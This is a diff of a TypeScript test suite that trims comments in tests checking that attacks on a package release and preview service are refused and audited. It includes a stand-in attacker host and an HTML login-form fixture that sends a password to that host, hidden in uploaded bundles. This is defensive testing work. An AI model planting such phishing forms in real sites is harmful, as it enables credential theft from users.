@@ -13,8 +13,7 @@ import { encodeBundle, remoteBundle, type SampleBundle, shellBundle } from './te
 import { PREVIEWS, SHOP } from './testing/previewShop.js';
 import { addTeam, createPublisher, gateSaid } from './testing/publisher.js';
 
-// Every attack on the way of a release, in one place: what is sent, and by whom; what is answered; and the one line that the
-// audit log has of it. None of them changes anything, so that one shop is enough for all.
+// Lists every attack on a release. None changes anything, so one shop serves all.
 
 const ORDER = 'mf-order';
 const MEGABYTE = 1024 * 1024;
@@ -23,9 +22,7 @@ const EVIL = 'https://evil.example';
 
 let directory: string;
 let site: TestApp;
-/** By the name of the team or of what is wrong with it. */
 const tokens: Record<string, string> = {};
-/** Of team `orders`, and one of each kind that has ended. */
 const previews: Record<'open' | 'expired' | 'revoked' | 'gone', Preview> = {} as never;
 let fingerprint: string;
 
@@ -102,7 +99,6 @@ afterAll(async () => {
 
 type Answer = Promise<LightMyRequestResponse>;
 
-/** A call as a team, by one of `tokens`. */
 async function ask(as: string | null, { headers, ...call }: InjectOptions): Answer {
   const authorization = as === null ? {} : { authorization: `Bearer ${tokens[as]}` };
   return site.app.inject({ ...call, headers: { ...authorization, ...headers } });
@@ -131,7 +127,6 @@ const beginPreview = (as: string | null, more: object = {}): Answer =>
     payload: { name: ORDER, version: 'b', gate: gateSaid('g'.repeat(43)), ...more },
   });
 
-/** Every call of the release path, as it is made of team orders' package. */
 const CALLS: Readonly<Record<keyof typeof RELEASE_CALLS | 'send' | 'begin', (as: string | null) => Answer>> = {
   registry: (as) => ask(as, { url: RELEASE_CALLS.registry }),
   changes: (as) => change(as, 'disable'),
@@ -151,7 +146,6 @@ const CALLS: Readonly<Record<keyof typeof RELEASE_CALLS | 'send' | 'begin', (as:
 };
 type Call = keyof typeof CALLS;
 const ALL = Object.keys(CALLS) as Call[];
-/** They are of no package, or show a team what is its own. */
 const OF_EVERYBODY: readonly Call[] = ['registry', 'kit', 'kitVersion'];
 const READS: readonly Call[] = [
   'registry',
@@ -169,11 +163,9 @@ interface Attack {
   name: string;
   act: () => Answer;
   status: number;
-  /** Of its line in the audit log: whose token it was, what for, and why not. */
   by?: string;
   reason: string;
   action?: 'preview.refused';
-  /** Of the answer. */
   says?: string;
 }
 
@@ -266,7 +258,6 @@ const scopeAttacks: Attack[] = [
   reason: 'scope',
 }));
 
-/** A sound build of mf-order, altered. */
 const altered = (alter: (bundle: SampleBundle) => Partial<SampleBundle>): Buffer => {
   const bundle = sound();
   return encodeBundle({ ...bundle, ...alter(bundle) });
@@ -281,7 +272,6 @@ const withFile = (path: string, text = 'x', isListed = false) =>
   }));
 const LOG_IN = `<form action="${EVIL}/take"><input name="password" type="password"></form>`;
 
-/** What browsers show as a document, whatever its extension is called. */
 const DOCUMENTS = ['html', 'htm', 'HTML', 'xhtml', 'xml', 'mhtml', 'pdf']
   .map((kind) => `login.${kind}`)
   .concat('login');
@@ -341,7 +331,6 @@ const stored = (name: string, version: string, bytes: number) => ({
   ...{ storedAt: site.clock.now(), usedUntil: site.clock.now() },
 });
 
-/** What fills a quota while an attack is made, and is gone after it. */
 const quotaAttacks: (Attack & { rows?: () => ReturnType<typeof stored>[] })[] = [
   {
     name: 'one version too many of a package',
@@ -379,7 +368,6 @@ const quotaAttacks: (Attack & { rows?: () => ReturnType<typeof stored>[] })[] = 
   },
 }));
 
-/** A visit as a browser makes it, each from a network of its own. */
 let network = 0;
 function visit(address: string, { headers, ...call }: InjectOptions = {}): Answer {
   network += 1;
@@ -411,7 +399,6 @@ const madeUp: readonly (readonly [what: string, signed: () => string])[] = [
   ['no signature', () => String(previews.open.id)],
   ['what a browser has after the press', () => cookieOfPress.value],
 ];
-/** As it is after a press, by the first test. */
 const cookieOfPress = { value: '' };
 
 const ofPreview = { action: 'preview.refused' as const };
@@ -507,7 +494,6 @@ const refusals = () =>
     .orderBy('id')
     .execute();
 
-/** What an attack could have changed. */
 async function look() {
   const { db } = site;
   const others = db.selectFrom('audit').select(({ fn }) => fn.countAll<number>().as('lines'));
@@ -538,7 +524,6 @@ it.each(ATTACKS)('$name is refused, changes nothing, and is in the audit log', a
   expect(answer.statusCode).toBe(status);
   expect(answer.body).toContain(says);
   expect(answer.cookies).toEqual([]);
-  // Its words, and nothing of what was asked for.
   if (action === 'team.refused') expect(Object.keys(answer.json()).sort()).toEqual(['code', 'message', 'statusCode']);
   const told = (await refusals()).slice(known);
   expect(told).toMatchObject([{ actor: by, action, detail: { reason, address: expect.any(String) } }]);
